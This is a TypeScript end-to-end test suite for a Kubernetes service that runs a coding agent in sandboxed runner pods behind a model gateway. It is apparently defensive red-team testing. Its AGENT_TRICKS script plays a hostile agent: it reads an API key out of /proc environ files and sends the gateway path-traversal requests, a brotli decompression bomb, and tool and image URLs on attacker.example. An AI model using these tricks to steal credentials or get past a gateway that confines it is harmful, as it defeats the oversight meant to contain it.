/**
 * The README, end to end, on a real node: Pagewright installed as a user installs it
 * (deploy/apply.sh with the dev overlay: deploy/k8s as is, plus pull policy Never, a
 * PersistentVolume and the demo model), manager and storage running as Deployments from their
 * images (the manager with its ServiceAccount's in-cluster config, leader election on, 2
 * replicas), runner pods as real containers under Pod Security "restricted". Then what a user
 * does: `kubectl apply -f examples/job.yaml`, `kubectl wait --for=condition=Complete`,
 * `kubectl get pwj -w`, `kubectl describe`, `kubectl logs`, `kubectl port-forward` to a running
 * runner, and a rolling restart of the manager while a job runs. Only the model is scripted.
 * And the red team through the gateway Service: from inside a running runner pod, as the agent,
 * with the credential it reads out of codex's environment, the path and tool tricks of
 * test/integration/gateway-hostile.test.ts; the demo model's access log shows what reached the
 * model endpoint.
 */
import { type ChildProcess, spawn } from 'node:child_process';
import { join } from 'node:path';
import { CoordinationV1Api, CoreV1Api, CustomObjectsApi, type V1Pod } from '@kubernetes/client-node';
import { expect } from 'chai';
import { request } from 'undici';
import { GROUP, PLURAL, PagewrightJob, VERSION } from '../../common/job-resource.js';
import type { RealNode } from '../support/node/cluster.js';
import { type Deployment, deployPagewright } from '../support/node/deploy.js';
import { sharedRealNode } from '../support/node/shared.js';
import { readOutputFile } from '../support/outputs.js';
import { eventsAbout } from '../support/control-plane.js';
import { waitFor } from '../support/processes.js';
import { REPO_ROOT } from '../support/sites.js';

const EXAMPLE_JOB = join(REPO_ROOT, 'examples/job.yaml');
const JOB = 'bakery-holiday-hours';
const finished = (j: PagewrightJob) => ['Succeeded', 'Failed', 'Cancelled'].includes(j.status.phase ?? '');

describe('e2e: the README on a real node, deploy/k8s as deployed', function () {
  this.timeout(300_000);
  let node: RealNode;
  let deployed: Deployment;
  let core: CoreV1Api;
  let custom: CustomObjectsApi;
  const kubectl = (args: string[], opts?: { allowFailure?: boolean }) => node.kubectl(['-n', deployed.namespace, ...args], opts);

  const getJob = async (name: string) =>
    PagewrightJob.parse(
      await custom.getNamespacedCustomObject({ group: GROUP, version: VERSION, plural: PLURAL, namespace: deployed.namespace, name }),
    );
  const waitForJob = async (name: string, what: string, predicate: (j: PagewrightJob) => boolean, timeoutMs = 120_000) => {
    let last: PagewrightJob | null = null;
    return waitFor(
      `${name} ${what}`,
      async () => {
        last = await getJob(name).catch(() => null);
        return last && predicate(last) ? last : null;
      },
      timeoutMs,
      200,
    ).catch(async (err: Error) => {
      throw new Error(`${err.message}; last status ${JSON.stringify((last as PagewrightJob | null)?.status)}\n${await diagnostics()}`);
    });
  };
  const diagnostics = async () => {
    const pods = await kubectl(['get', 'pods', '-o', 'wide'], { allowFailure: true });
    const logs = await kubectl(['logs', '-l', 'app.kubernetes.io/component=manager', '--tail=40', '--prefix'], { allowFailure: true });
    return `--- pods\n${pods.stdout}${pods.stderr}\n--- manager logs\n${logs.stdout}${logs.stderr}`;
  };
  const submit = async (name: string, prompt: string) => {
    const manifest = `apiVersion: pagewright.dev/v1alpha1\nkind: PagewrightJob\nmetadata: {name: ${name}}\nspec: {siteId: harbor-lane-bakery, prompt: ${JSON.stringify(prompt)}, timeoutSeconds: 300}\n`;
    await node.kubectl(['-n', deployed.namespace, 'apply', '-f', '-'], { input: manifest });
  };
  /** The demo model thinks this long per turn, so a job can be caught mid-run (README). */
  const setModelDelay = async (ms: number) => {
    await kubectl(['set', 'env', 'deployment/pagewright-demo-model', `PAGEWRIGHT_DEMO_MODEL_DELAY_MS=${ms}`]);
    await kubectl(['rollout', 'status', 'deployment/pagewright-demo-model', '--timeout=120s']);
  };

  before(async function () {
    this.timeout(900_000);
    node = await sharedRealNode();
    deployed = await deployPagewright(node);
    core = node.kubeConfig().makeApiClient(CoreV1Api);
    custom = node.kubeConfig().makeApiClient(CustomObjectsApi);
  });

  it('runs manager and storage as Deployments from their images, on containerd, the manager with leader election', async () => {
    const pods = (await core.listNamespacedPod({ namespace: deployed.namespace })).items;
    const of = (component: string) =>
      pods.filter((p) => p.metadata?.labels?.['app.kubernetes.io/component'] === component && p.status?.phase === 'Running');
    const managers = of('manager');
    expect(managers.map((p) => p.spec?.containers[0]?.image)).to.deep.equal(['pagewright-manager:0.1.0', 'pagewright-manager:0.1.0']);
    expect(of('storage').map((p) => p.spec?.containers[0]?.image)).to.deep.equal(['pagewright-storage:0.1.0']);
    for (const p of [...managers, ...of('storage')]) {
      expect(p.status?.containerStatuses?.[0]?.containerID, p.metadata?.name).to.match(/^containerd:\/\//);
      expect(p.spec?.nodeName).to.equal(node.nodeName);
    }
    // in-cluster config: the ServiceAccount token is mounted, no kubeconfig anywhere
    expect(managers[0]!.spec?.serviceAccountName).to.equal('pagewright-manager');
    expect(
      managers[0]!.spec?.containers[0]?.volumeMounts?.some((m) => m.mountPath === '/var/run/secrets/kubernetes.io/serviceaccount'),
    ).to.equal(true);
    const lease = await node
      .kubeConfig()
      .makeApiClient(CoordinationV1Api)
      .readNamespacedLease({ namespace: deployed.namespace, name: 'pagewright-manager' });
    expect(managers.map((p) => p.metadata?.name)).to.include(lease.spec?.holderIdentity);
  });

  it('kubectl apply -f examples/job.yaml: Complete, the edited site in storage, and get -w, describe and logs show it', async () => {
    const watch = spawnKubectl(node, ['-n', deployed.namespace, 'get', 'pwj', '-w']);
    try {
      await kubectl(['apply', '-f', EXAMPLE_JOB]);
      const wait = await kubectl(['wait', '--for=condition=Complete', '--timeout=180s', `pwj/${JOB}`], { allowFailure: true });
      const job = await getJob(JOB);
      expect(wait.code, `kubectl wait: ${wait.stderr}\nstatus: ${JSON.stringify(job.status, null, 1)}\n${await diagnostics()}`).to.equal(0);
      const s = job.status;
      expect(s).to.include({ phase: 'Succeeded', attempt: 1, filesChanged: 1, baseVersion: deployed.baseVersion });
      expect(s.files).to.deep.equal(['index.html']);
      expect(s.summary).to.match(/Added a note to index.html/);
      const output = await readOutputFile(deployed.storage, job.metadata.uid, 'index.html');
      expect(output.version).to.equal(s.outputVersion);
      expect(output.text).to.contain('class="pagewright-note"').and.to.contain('closed from December 24');

      // the runner ran as a real container: containerd's id, the restricted security context
      const pod = await waitFor(
        'the runner container to exit',
        async () => {
          const p = await core.readNamespacedPod({ namespace: deployed.namespace, name: s.podName! });
          return p.status?.containerStatuses?.[0]?.state?.terminated ? p : null;
        },
        30_000,
        200,
      );
      expect(pod.status?.containerStatuses?.[0]?.containerID).to.match(/^containerd:\/\//);
      expect(pod.status?.containerStatuses?.[0]?.state?.terminated).to.include({ exitCode: 0, reason: 'Completed' });
      expect(pod.spec?.containers[0]?.securityContext).to.deep.include({
        readOnlyRootFilesystem: true,
        allowPrivilegeEscalation: false,
        runAsNonRoot: true,
      });

      await waitFor(
        'kubectl get pwj -w to show the job Succeeded',
        async () => /bakery-holiday-hours\s+harbor-lane-bakery\s+Succeeded\s+completed\s+1/.test(watch.output()),
        10_000,
        100,
      );
      expect(watch.output()).to.match(/bakery-holiday-hours\s+harbor-lane-bakery\s+(Queued|Scheduled|Running)/);
      const describe = await kubectl(['describe', 'pwj', JOB]);
      expect(describe.stdout)
        .to.match(/Phase:\s+Succeeded/)
        .and.to.match(/Events:/)
        .and.to.match(/Scheduled/);
      const logs = await kubectl(['logs', s.podName!]);
      expect(logs.stdout).to.contain('"phase":"executing_codex"').and.to.contain(job.metadata.uid);
    } finally {
      watch.stop();
    }
  });

  describe('while a job runs (the demo model slowed down, as the README says)', () => {
    before(async () => setModelDelay(8000));
    after(async () => setModelDelay(0));

    it('kubectl port-forward to the runner pod serves its /status', async () => {
      const name = 'mid-run';
      await submit(name, 'Add a line about the new sourdough');
      const running = await waitForJob(name, 'executing_codex', (j) => j.status.runnerPhase === 'executing_codex');
      const forward = spawnKubectl(node, ['-n', deployed.namespace, 'port-forward', `pod/${running.status.podName}`, ':8082']);
      try {
        const port = await waitFor(
          'port-forward to listen',
          async () => /Forwarding from 127\.0\.0\.1:(\d+)/.exec(forward.output())?.[1],
          30_000,
          100,
        );
        const res = await request(`http://127.0.0.1:${port}/status`);
        const status = (await res.body.json()) as Record<string, unknown>;
        expect(res.statusCode).to.equal(200);
        expect(status).to.include({ status: 'running', phase: 'executing_codex', job_id: running.metadata.uid, attempt: 1 });
      } finally {
        forward.stop();
      }
      expect((await waitForJob(name, 'finished', finished)).status.phase).to.equal('Succeeded');
    });

    it("the agent's tricks through the gateway Service from inside its pod: refused, the job ends HostedToolNotAllowed, nothing else reaches the model", async () => {
      const name = 'red-team-gateway';
      await submit(name, 'Tidy the footer');
      const running = await waitForJob(name, 'executing_codex', (j) => j.status.runnerPhase === 'executing_codex');
      // as the agent (its container, its uid): the credential from codex's environment, raw
      // requests to the gateway's Service name, one trick after another
      const exec = await kubectl(['exec', running.status.podName!, '-c', 'agent', '--', 'node', '-e', AGENT_TRICKS], {
        allowFailure: true,
      });
      // the refusal ends the attempt and the manager kills the pod: the exec may be killed with
      // it (137) before the last trick is answered; the script prints its answers so far after
      // each trick, so what it saw up to then is kept either way
      expect(exec.code, `${exec.stdout}${exec.stderr}`).to.be.oneOf([0, 137]);
      const answers = JSON.parse(exec.stdout.trim().split('\n').at(-1) ?? '{}') as Record<string, string>;
      const last = 'POST /v1/responses (input_image by URL)';
      if (exec.code === 137) {
        // killed: only by the attempt's end, which the job's reason below proves; the last
        // trick was refused on its own account or not yet answered
        expect([undefined, '403 InputNotAllowed', '403 AttemptEnded'], exec.stdout).to.include(answers[last]);
        answers[last] = '403 AttemptEnded';
      }
      expect(answers, exec.stdout).to.deep.equal({
        credential: 'found in codex environment',
        'GET /v1/models/..\\files': '404 NotFound',
        'GET /v1/models/..\\responses\\resp_1': '404 NotFound',
        'GET /v1/models/%2e%2e/files': '404 NotFound',
        'GET /v1/files': '404 NotFound',
        'POST /v1/responses?background=true': '404 NotFound',
        'POST /v1/responses (brotli)': '415 UnsupportedMediaType',
        'POST /v1/responses (mcp tool)': '403 HostedToolNotAllowed',
        // a refusal ends the attempt: its credential is dead from then on
        'POST /v1/responses (input_image by URL)': '403 AttemptEnded',
      });
      const done = await waitForJob(name, 'finished', finished);
      expect(done.status).to.include({ phase: 'Failed', reason: 'HostedToolNotAllowed' });
      // what reached the model endpoint, over this whole suite: the Responses route and the
      // preflight's model lookup, never a tool besides codex's function and custom tools
      const log = await kubectl(['logs', 'deployment/pagewright-demo-model']);
      const requests = log.stdout.split('\n').filter((l) => l.startsWith('request: '));
      expect(requests.length, log.stdout).to.be.at.least(3);
      for (const line of requests)
        expect(line).to.match(/^request: (POST \/v1\/responses tools=custom,function|GET \/v1\/models\/gpt-[\w.-]+)$/);
    });

    it('a rolling restart of the manager while the job runs: it completes with exactly one result', async () => {
      const name = 'restart-mid-run';
      await submit(name, 'Mention the holiday opening hours');
      const running = await waitForJob(name, 'executing_codex', (j) => j.status.runnerPhase === 'executing_codex');
      const before = (
        await core.listNamespacedPod({ namespace: deployed.namespace, labelSelector: 'app.kubernetes.io/component=manager' })
      ).items.map((p) => p.metadata?.name);
      await kubectl(['rollout', 'restart', 'deployment/pagewright-manager']);
      await kubectl(['rollout', 'status', 'deployment/pagewright-manager', '--timeout=180s']);
      const done = await waitForJob(name, 'finished', finished, 180_000);
      expect(done.status, await diagnostics()).to.include({ phase: 'Succeeded', attempt: 1, reportedAttempt: 1 });
      const after = (await core.listNamespacedPod({ namespace: deployed.namespace, labelSelector: 'app.kubernetes.io/component=manager' }))
        .items;
      expect(after.map((p) => p.metadata?.name)).to.not.include.members(before.filter((n): n is string => !!n));
      // one runner pod, one terminal transition: the result was recorded once
      const pods = (
        await core.listNamespacedPod({ namespace: deployed.namespace, labelSelector: `pagewright.dev/job=${running.metadata.uid}` })
      ).items;
      expect(pods.map((p: V1Pod) => p.metadata?.name)).to.deep.equal([running.status.podName]);
      const events = await eventsAbout((args) => node.kubectl(args), deployed.namespace, name, 'reason');
      const reasons = events.split(' ');
      expect(
        reasons.filter((r) => r === 'Succeeded'),
        events,
      ).to.have.length(1);
      expect(reasons).to.not.include('Retrying');
    });
  });
});

/**
 * What a hostile agent runs inside its runner pod (node -e, in the agent container): finds the
 * gateway credential in codex's environment (the agent's uid may read its own processes), then
 * sends each trick to the gateway Service on a raw socket (no client library normalises the
 * paths), and prints after each trick one JSON object: the tricks so far and each answer's status
 * and error code (the last line is what it saw, even when the pod is killed under it).
 */
const AGENT_TRICKS = String.raw`
const fs = require('node:fs'), net = require('node:net'), zlib = require('node:zlib');
let key = null;
for (const pid of fs.readdirSync('/proc').filter((d) => /^\d+$/.test(d))) {
  try {
    const v = fs.readFileSync('/proc/' + pid + '/environ', 'utf8').split('\0').find((e) => e.startsWith('PAGEWRIGHT_CODEX_LLM_KEY='));
    if (v) { key = v.slice(v.indexOf('=') + 1); break; }
  } catch {}
}
const send = (method, target, body, headers = {}) => new Promise((resolve) => {
  const s = net.connect(8085, 'pagewright-gateway');
  const head = [method + ' ' + target + ' HTTP/1.1', 'Host: pagewright-gateway:8085', 'Connection: close', 'Authorization: Bearer ' + key,
    'Content-Type: application/json', 'Content-Length: ' + body.length, ...Object.entries(headers).map(([k, v]) => k + ': ' + v)];
  s.write(head.join('\r\n') + '\r\n\r\n'); s.write(body);
  const chunks = []; s.on('data', (c) => chunks.push(c)); s.on('error', (e) => resolve('error ' + e.code));
  s.on('close', () => {
    const text = Buffer.concat(chunks).toString();
    const code = (/"code":"(\w+)"/.exec(text) || [])[1] || '?';
    resolve(((/^HTTP\/1\.1 (\d+)/.exec(text) || [])[1] || '?') + ' ' + code);
  });
});
const body = (extra) => Buffer.from(JSON.stringify({ model: 'gpt-5.5', stream: true, input: [{ role: 'user', content: 'hi' }], ...extra }));
const out = { credential: key ? 'found in codex environment' : 'not found' };
// the answers so far, after each one: the pod may be killed before the last
const answer = (k, v) => { out[k] = v; console.log(JSON.stringify(out)); };
(async () => {
  console.log(JSON.stringify(out));
  for (const target of ['/v1/models/..\\files', '/v1/models/..\\responses\\resp_1', '/v1/models/%2e%2e/files', '/v1/files'])
    answer('GET ' + target, await send('GET', target, Buffer.alloc(0)));
  answer('POST /v1/responses?background=true', await send('POST', '/v1/responses?background=true', body({})));
  answer('POST /v1/responses (brotli)', await send('POST', '/v1/responses', zlib.brotliCompressSync(Buffer.alloc(64 << 20, 32)), { 'Content-Encoding': 'br' }));
  answer('POST /v1/responses (mcp tool)', await send('POST', '/v1/responses', body({ tools: [{ type: 'mcp', server_label: 'x', server_url: 'https://attacker.example/mcp' }] })));
  // the refusal reaches the manager, which ends the attempt; until the gateway's watch sees that, the next trick is refused on its own account
  const image = body({ input: [{ role: 'user', content: [{ type: 'input_image', image_url: 'https://attacker.example/x.png' }] }] });
  for (let i = 0; i < 150; i++) {
    answer('POST /v1/responses (input_image by URL)', await send('POST', '/v1/responses', image));
    if (out['POST /v1/responses (input_image by URL)'] !== '403 InputNotAllowed') break;
    await new Promise((r) => setTimeout(r, 100));
  }
})();
`;

/** kubectl running in the background (watch, port-forward), its output collected. */
function spawnKubectl(node: RealNode, args: string[]): { output(): string; stop(): void; proc: ChildProcess } {
  const proc = spawn(join(node.binDir, 'kubectl'), [`--kubeconfig=${node.kubeconfigPath}`, ...args], { stdio: ['ignore', 'pipe', 'pipe'] });
  let out = '';
  proc.stdout.on('data', (c: Buffer) => (out += c.toString()));
  proc.stderr.on('data', (c: Buffer) => (out += c.toString()));
  return { output: () => out, stop: () => proc.kill('SIGTERM'), proc };
}
